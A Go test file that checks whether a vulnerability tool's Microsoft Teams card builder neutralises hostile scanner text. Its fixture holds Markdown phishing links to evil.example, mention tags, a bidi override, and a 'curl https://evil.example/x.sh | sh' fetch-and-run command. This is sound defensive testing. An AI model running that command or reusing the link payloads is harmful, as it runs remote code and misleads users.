package teams_test

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/sextant-dev/sextant"
	"github.com/sextant-dev/sextant/internal/sink/teams"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/")

const approvalURL = "https://sextant.example/approvals"

// sampleContent is a realistic action: one upgrade of glibc in a Debian
// image fixing two CVEs.
func sampleContent() sextant.TicketContent {
	const artifact = "registry.example/payments/api:1.4.2"
	id := sextant.ActionID(sextant.ActionUpgradePackage, "registry.example/payments/api@sha256:9f2c1e0b7a4d4c21b3e8a0f6d2c4b1aa9f2c1e0b7a4d4c21b3e8a0f6d2c4b1aa", "deb/libc6")
	return sextant.TicketContent{
		Action: sextant.Action{
			ID:               id,
			Priority:         sextant.P0,
			Score:            91.5,
			Title:            "Upgrade libc6 2.36-9+deb12u4 → 2.36-9+deb12u7 in " + artifact + " (fixes 2 CVEs)",
			Artifact:         artifact,
			Kind:             sextant.ActionUpgradePackage,
			Package:          "libc6",
			Ecosystem:        "debian",
			InstalledVersion: "2.36-9+deb12u4",
			TargetVersion:    "2.36-9+deb12u7",
			Commands:         []string{"apt-get update && apt-get install -y --only-upgrade libc6=2.36-9+deb12u7"},
			Notes:            []string{"Rebuild the image and redeploy: every process loads glibc at start."},
			Vulnerabilities:  []string{"CVE-2023-4911", "CVE-2024-2961"},
			FindingIDs:       []string{"fnd_1c0ffee1c0ffee1c0ffe", "fnd_2decade2decade2deca"},
			RiskRemoved:      170.2,
		},
		Status:   sextant.ActionOpen,
		Findings: 2,
		Owner:    "team-payments",
		Summary:  "CVE-2023-4911 (Looney Tunables) lets a local user become root through GLIBC_TUNABLES; it is in CISA's KEV catalog.\nThe image runs in production behind the public ingress.",
		Link:     "https://sextant.example/actions/" + id,
	}
}

func sample() sextant.ChatMessage {
	return sextant.ChatMessage{Content: sampleContent(), Text: "P0: upgrade libc6 in payments/api (2 CVEs, 1 in KEV)"}
}

// hostile is an action whose scanner-supplied text tries Markdown links,
// emphasis, mentions and reordering characters.
func hostile() sextant.ChatMessage {
	m := sample()
	a := &m.Content.Action
	a.Title = "Upgrade [click here](https://evil.example/login) **now** <at>General</at>"
	a.Package = "libc6](https://evil.example)"
	a.Commands = []string{"curl https://evil.example/x.sh | sh # \u202etxt.exe", "docker inspect --format '{{.Id}}' api"}
	a.Vulnerabilities = []string{"CVE-2024-2961", "[CVE-2024-0001](https://evil.example)"}
	a.Notes = []string{"- [ ] see [the fix](https://evil.example)", "Fixed on {{DATE(2017-02-14T06:08:39Z, SHORT)}}"}
	m.Content.Owner = "<at>everyone</at>"
	m.Content.Status = "open](https://evil.example)"
	m.Content.Summary = "Click [here](https://evil.example/reset) to fix."
	m.Text = "P0: [urgent](https://evil.example)"
	m.ApprovalID = "apr_5e1f0c8a"
	return m
}

func TestNewPayloadGolden(t *testing.T) {
	approval := sample()
	approval.ApprovalID = "apr_5e1f0c8a"
	decided := approval
	decided.Decided = "Approved by Amy Example at 2026-08-21 10:04 UTC"
	tests := []struct {
		name string
		m    sextant.ChatMessage
	}{
		{"post", sample()},
		{"approval", approval},
		{"decided", decided},
		{"hostile", hostile()},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := marshalIndent(t, teams.NewPayload(tt.m, approvalURL))
			golden(t, filepath.Join("testdata", tt.name+".golden.json"), got)
		})
	}
}

func marshalIndent(t *testing.T, v any) []byte {
	t.Helper()
	var b bytes.Buffer
	enc := json.NewEncoder(&b)
	enc.SetEscapeHTML(false)
	enc.SetIndent("", "  ")
	if err := enc.Encode(v); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func golden(t *testing.T, path string, got []byte) {
	t.Helper()
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if diff := cmp.Diff(string(want), string(got)); diff != "" {
		t.Errorf("%s differs (-want +got, go test -update rewrites it):\n%s", path, diff)
	}
}

// TestNewPayloadNeutral checks that finding text only ever lands where
// Teams does not read Markdown: TextRuns. FactSets (read as Markdown) hold
// only what sextant computed, and every button leads to sextant.
func TestNewPayloadNeutral(t *testing.T) {
	p := teams.NewPayload(hostile(), approvalURL)
	card := p.Attachments[0].Content
	for i, e := range card.Body {
		switch e.Type {
		case "RichTextBlock":
			for _, r := range e.Inlines {
				if r.Type != "TextRun" {
					t.Errorf("body[%d] inline type %q, want TextRun", i, r.Type)
				}
				if strings.ContainsRune(r.Text, '\u202e') || strings.Contains(r.Text, "{{DATE(") {
					t.Errorf("body[%d] keeps a bidi override or a date function: %q", i, r.Text)
				}
			}
		case "FactSet":
			for _, f := range e.Facts {
				if strings.ContainsAny(f.Value, "[]()<>*_") {
					t.Errorf("fact %s = %q carries Markdown", f.Title, f.Value)
				}
			}
		default:
			t.Errorf("body[%d] is a %s, want RichTextBlock or FactSet", i, e.Type)
		}
	}
	for _, a := range card.Actions {
		if a.Type != "Action.OpenUrl" || !strings.HasPrefix(a.URL, "https://sextant.example/") {
			t.Errorf("action %+v, want Action.OpenUrl to sextant", a)
		}
	}
}

func TestNewPayloadButtons(t *testing.T) {
	tests := []struct {
		name, approval, decided, base string
		want                          []teams.Action
	}{
		{"no approval", "", "", approvalURL, []teams.Action{
			{Type: "Action.OpenUrl", Title: "Open in sextant", URL: "https://sextant.example/actions/act_9432ba9f168cf9e7c7c7"},
		}},
		{"approval", "apr 1/2", "", approvalURL + "/", []teams.Action{
			{Type: "Action.OpenUrl", Title: "Approve", URL: "https://sextant.example/approvals/apr%201%2F2?decision=approve", Style: "positive"},
			{Type: "Action.OpenUrl", Title: "Reject", URL: "https://sextant.example/approvals/apr%201%2F2?decision=reject", Style: "destructive"},
			{Type: "Action.OpenUrl", Title: "Open in sextant", URL: "https://sextant.example/actions/act_9432ba9f168cf9e7c7c7"},
		}},
		{"decided", "apr_1", "Rejected by Amy", approvalURL, []teams.Action{
			{Type: "Action.OpenUrl", Title: "Open in sextant", URL: "https://sextant.example/actions/act_9432ba9f168cf9e7c7c7"},
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			m := sample()
			m.ApprovalID, m.Decided = tt.approval, tt.decided
			got := teams.NewPayload(m, tt.base).Attachments[0].Content.Actions
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("NewPayload actions differ (-want +got):\n%s", diff)
			}
		})
	}
}
